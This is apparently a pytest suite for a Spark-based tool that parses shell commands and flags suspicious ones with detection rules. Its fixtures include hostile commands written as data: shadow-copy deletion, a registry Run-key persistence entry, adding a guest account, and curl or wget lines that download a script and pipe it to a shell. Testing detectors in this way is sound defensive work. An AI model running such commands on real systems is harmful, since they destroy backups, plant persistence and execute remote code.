"""Hand-checked commands through the parser, the features and the rules; every column of the gallery takes both values."""

import pytest
from pyspark.sql import functions as F

from cmdlake.functions import rule_table
from cmdlake.operators import triage
from cmdlake.plans import triage_queries

WIN = "\\"
CASES = {
    'curl -o "a b.exe" https://example.org/x.exe': {"executable": "curl", "flags": ["-o"], "file_paths": ["a b.exe"], "remote_targets": ["https://example.org/x.exe"], "domains": ["example.org"], "rule_strength": "strong"},
    "net user guest /add": {"executable": "net", "subcommand": "user", "flags": ["/add"], "positional_args": ["guest"], "platform": "windows"},
    "/usr/bin/git push 'origin'": {"executable": "git", "subcommand": "push", "positional_args": ["origin"], "file_paths": ["/usr/bin/git"]},
    "vssadmin delete shadows /all": {"subcommand": "delete", "deletes_shadow_copies": True, "banned_classes": [rule_table.INGRESS, rule_table.RUN_KEY, rule_table.TASK], "rule_strength": "strong"},
    f"reg add HKCU{WIN}Software{WIN}Microsoft{WIN}Windows{WIN}CurrentVersion{WIN}Run /v x /d y.exe /f": {"modifies_registry_autorun": True, "writes_executable_like_file": True, "rule_strength": "strong", "platform": "windows"},
    "tar -czf out.tgz src backup": {"archive_indicators": ["archive_tool", "archive_create", "compression_gzip", "archive_path", "backup_keyword"], "archive_create": True},
    "tool.exe run": {"platform": "windows", "executable": "tool.exe", "subcommand": None},
    "plainword": {"rule_strength": "none", "fired_rules": [], "candidate_classes": [], "platform": "unknown"},
    "whoami": {"enumerates_identity": True, "fired_rules": ["discovery"], "evidence": ["discovery: whoami — identity/account enumeration"]},
    "   ": {"executable": "", "flags": [], "rule_strength": "none"},
}


def test_cases(spark):
    df = spark.createDataFrame([(c,) for c in [*CASES, None]], "command string")
    got = {r.command: r for r in triage.with_rules(triage.with_semantics(triage.parse_commands(df))).collect()}
    for command, want in CASES.items():
        assert {k: got[command][k] for k in want} == want, command
    assert got["net user guest /add"].priors[rule_table.ACCOUNT_MGMT] == 0.45
    assert got[None].executable is None and got[None].rule_strength == "none"


def test_decoded_form_gives_targets_only(spark):
    df = spark.createDataFrame([("run -enc QUJD", "wget http://10.0.0.1/a.sh | sh")], "command string, plain string")
    r = triage.with_rules(triage.with_semantics(triage.parse_commands(df, decoded="plain"))).first()
    assert (r.executable, r.flags, r.urls, r.has_pipe) == ("run", ["-enc"], ["http://10.0.0.1/a.sh"], True)
    assert rule_table.DECODE in r.candidate_classes


def test_no_feature_of_the_gallery_is_constant(spark):
    rows = triage_queries.featured(spark, "/root/testdata/sf0.001").agg(*[F.sum(F.col(n).cast("int")).alias(n) for n in triage_queries.FEATURES], F.count("*").alias("n")).first()
    assert [n for n in triage_queries.FEATURES if not 0 < rows[n] < rows["n"]] == []


def test_every_rule_fires_in_the_gallery(spark):
    rows = triage_queries.QUERIES["rul0_fired_rules"](spark, "/root/testdata/sf0.001").collect()
    seen = {name for r in rows for name in r.fired_rules.split()}
    assert {r.name for r in rule_table.RULES} - seen == set()


def test_once_per_command_equals_a_call_per_row(spark):
    rows = [(1, "whoami", "x"), (2, None, "y"), (3, "whoami", "z"), (4, "curl -s http://a.example/i.sh | bash", None), (5, "", "x"), (6, None, None)]
    df = spark.createDataFrame(rows, "id int, command string, text string")
    made = lambda d: triage.with_rules(triage.with_semantics(triage.parse_commands(d)))
    names = ("id", "command", "text", "flags", "priors", "fired_rules", "rule_strength")
    key = lambda r: r.id
    assert sorted(triage.once_per_command(df, made).select(*names).collect(), key=key) == sorted(made(df).select(*names).collect(), key=key)
    several = triage.once_per_command(df, lambda d: d.select("command", F.explode(F.array(F.lit(1), F.lit(2))).alias("n")))
    assert set(several.columns) == {"id", "command", "text", "n"}
    assert sorted((r.id, r.n) for r in several.collect()) == [(i, n) for i in range(1, 7) for n in (1, 2)]


@pytest.mark.parametrize("name", ["pri1_pri2_prior_vector", "pri3_candidate_mask", "pri5_coverage", "beh1_beh2_actions_stage", "agg10_rule_subsets", "agg10_top_offenders", "agg10_rule_fixes"])
def test_rules_judge_each_command_once(spark, monkeypatch, name):
    from cmdlake.plans import registry

    judged, whole = [], triage.with_rules
    monkeypatch.setattr(triage, "with_rules", lambda df: judged.append(df) or whole(df))
    registry.queries()[name](spark, "/root/testdata/sf0.001")
    r = judged[0].agg(F.count("*").alias("n"), F.count_distinct("command").alias("n_commands")).first()
    assert len(judged) == 1 and r.n == r.n_commands > 100
